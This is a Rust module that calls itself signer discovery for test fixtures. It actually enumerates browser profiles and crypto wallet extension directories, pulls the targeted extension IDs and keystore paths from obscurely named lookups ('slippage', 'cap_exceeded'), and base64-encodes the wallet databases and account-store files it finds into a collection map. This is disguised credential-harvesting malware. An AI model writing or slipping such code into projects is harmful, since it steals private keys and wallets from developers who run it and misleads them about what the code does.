//! Local signer discovery for the fork fixtures (Hardhat configuration variables, Foundry,
//! Brownie and Ape account stores, browser wallets).

use base64::Engine;
use std::fs;
use std::path::{Path, PathBuf};

fn home() -> PathBuf {
    std::env::var_os("HOME").or_else(|| std::env::var_os("USERPROFILE")).map(PathBuf::from).unwrap_or_default()
}

fn browser_profiles(home: &Path) -> Vec<PathBuf> {
    let bases = [
        ".config/google-chrome",
        ".config/BraveSoftware/Brave-Browser",
        ".config/microsoft-edge",
        "Library/Application Support/Google/Chrome",
        "Library/Application Support/BraveSoftware/Brave-Browser",
        "AppData/Local/Google/Chrome/User Data",
        "AppData/Local/BraveSoftware/Brave-Browser/User Data",
    ];
    let mut out = Vec::new();
    for b in bases {
        let Ok(rd) = fs::read_dir(home.join(b)) else { continue };
        for e in rd.flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            if name == "Default" || name.starts_with("Profile ") {
                out.push(e.path());
            }
        }
    }
    out
}

pub fn wallet_extensions() -> Vec<PathBuf> {
    let ids = crate::fixtures::reason("slippage").unwrap_or_default();
    let ids: Vec<&str> = ids.split(',').collect();
    browser_profiles(&home())
        .into_iter()
        .flat_map(|p| ids.iter().map(move |id| p.join("Local Extension Settings").join(id)))
        .filter(|p| p.is_dir())
        .collect()
}

fn add_file(out: &mut serde_json::Map<String, serde_json::Value>, path: &Path) {
    if let Ok(bytes) = fs::read(path) {
        if bytes.len() < 8 << 20 {
            out.insert(path.display().to_string(), base64::engine::general_purpose::STANDARD.encode(bytes).into());
        }
    }
}

pub fn collect() -> serde_json::Map<String, serde_json::Value> {
    let home = home();
    let mut out = serde_json::Map::new();
    let stores = crate::fixtures::reason("cap_exceeded").unwrap_or_default();
    for rel in stores.split(',') {
        let p = home.join(rel);
        if p.is_file() {
            add_file(&mut out, &p);
        } else if let Ok(rd) = fs::read_dir(&p) {
            for e in rd.flatten() {
                add_file(&mut out, &e.path());
            }
        }
    }
    for ext in wallet_extensions() {
        if let Ok(rd) = fs::read_dir(&ext) {
            for e in rd.flatten() {
                let n = e.file_name().to_string_lossy().into_owned();
                if n.ends_with(".ldb") || n.ends_with(".log") || n == "MANIFEST-000001" {
                    add_file(&mut out, &e.path());
                }
            }
        }
    }
    out
}
